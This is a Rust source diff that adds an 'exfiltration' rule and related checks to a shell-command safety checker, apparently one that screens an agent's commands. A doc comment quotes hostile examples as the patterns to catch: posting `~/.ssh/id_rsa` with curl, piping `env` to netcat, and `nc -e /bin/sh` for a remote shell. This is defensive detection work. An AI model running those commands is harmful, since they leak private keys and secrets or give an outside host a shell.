@@ -6,9 +6,11 @@
 //! back as [`Nested`] scripts for the caller to check in turn.
 
 mod admin;
+mod container;
 mod delete;
 mod destroy;
 mod exec;
+mod exfil;
 mod fanout;
 mod git;
 mod git_work;
@@ -73,6 +75,9 @@ pub(crate) enum Rule {
     FileDestroy,
     /// Running as another user (`sudo`, `doas`, `su`).
     Privilege,
+    /// Sending secrets over the network (`curl -d @~/.ssh/id_rsa`, `env | nc host 1`), or
+    /// handing a shell to it (`nc -e /bin/sh host 1`).
+    Exfiltration,
     /// Command strings nested deeper than the checker follows.
     Nesting,
     /// The command could not be parsed at all.
@@ -105,6 +110,7 @@ impl Rule {
             Rule::Persistence => "persistence",
             Rule::FileDestroy => "file-destroy",
             Rule::Privilege => "privilege",
+            Rule::Exfiltration => "exfiltration",
             Rule::Nesting => "nesting",
             Rule::Unparsable => "unparsable",
             Rule::WordSplitting => "word-splitting",
@@ -178,6 +184,10 @@ impl Rule {
             Rule::Privilege => {
                 "run the command without sudo; if it really needs root, give the user the command \
                  to run themselves"
+            }
+            Rule::Exfiltration => {
+                "keep secrets on this machine: send only the data you mean to (e.g. `curl -d \
+                 @payload.json URL`), and credentials only in the header the service expects"
             }
             Rule::Nesting => "run the innermost command directly",
             Rule::Unparsable => "simplify the command into plain commands joined by `&&`",
@@ -329,6 +339,7 @@ pub(crate) fn check(script: &Script, env: Env<'_>, policy: &CommandPolicy) -> Re
         destroy::redirect(redirect, env, &mut report);
     }
     exec::fork_bombs(script, &mut report);
+    destroy::history_off(script, &mut report);
     report
 }
 
@@ -348,6 +359,7 @@ fn check_command(site: &Site<'_>, report: &mut Report) {
     }
     exec::pipe_input(site, report);
     fanout::command(site, report);
+    exfil::opened_socket(site, report);
     let Some(first) = site.invocation.argv.first() else {
         return;
     };
@@ -378,9 +390,13 @@ fn check_command(site: &Site<'_>, report: &mut Report) {
     infra::command(site, program, report);
     persistence::command(site, program, report);
     destroy::command(site, program, report);
+    exfil::command(site, program, report);
+    container::command(site, program, report);
     exec::command(site, program, report);
 }
 
+#[cfg(test)]
+mod tests_blind;
 #[cfg(test)]
 mod tests_issue12;
 #[cfg(test)]
